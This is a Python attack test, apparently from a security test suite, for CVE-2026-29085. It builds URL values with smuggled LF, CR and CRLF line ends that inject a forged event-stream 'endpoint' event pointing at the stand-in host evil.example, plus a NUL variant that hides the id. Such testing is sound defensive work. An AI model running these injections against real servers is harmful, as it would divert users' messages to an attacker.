"""Breaks: the event stream, with a line end in a value.

The server greets its client with `id: NAME-1`, and the name comes from the URL. A line end in
it ends the field, and the next lines are the attacker's event. This one tells the client to
POST its messages to the attacker. An attacker who gives Alice such a link to her own server
then reads everything she sends. An event stream has three line ends, LF, CR and CRLF, so
looking for LF alone does not help. A NUL adds no event, but makes a client ignore the id.
"""

from contextlib import suppress
from urllib.parse import quote

from attacks.finding import Finding
from attacks.target import Refused, Server

AGAINST = "server"
CASE = "CVE-2026-29085"
FORGED = "http://evil.example/message?session_id=0"
LINE_ENDS = {"LF": "\n", "CR": "\r", "CRLF": "\r\n"}


async def attack(server: Server) -> Finding:
    done: list[str] = []
    refused: dict[str, str] = {}
    for what, end in LINE_ENDS.items():
        name = quote(f"you{end}{end}event: endpoint{end}data: {FORGED}{end}{end}")
        try:
            async with server.open(server.alice, f"?client={name}") as stream:
                with suppress(TimeoutError):
                    # The stream is read as the standard says, as in any client.
                    await stream.next(lambda event: event.data == FORGED, seconds=0.5)
                    done.append(what)
        except Refused as refusal:
            refused[what] = str(refusal)
    try:
        async with server.open(server.alice, "?client=you%00") as stream:
            greeting = await stream.next(lambda event: event.type == "connected")
            if not greeting.last_event_id:
                done.append("NUL hides the id")
    except Refused as refusal:
        refused["NUL"] = str(refusal)
    if done:
        return Finding(True, f"an endpoint of Mallory's by {', '.join(done)}")
    if refused:
        return Finding(False, f"{', '.join(refused)}: {', '.join(set(refused.values()))}")
    return Finding(False, "what was in ?client= stayed in its field")
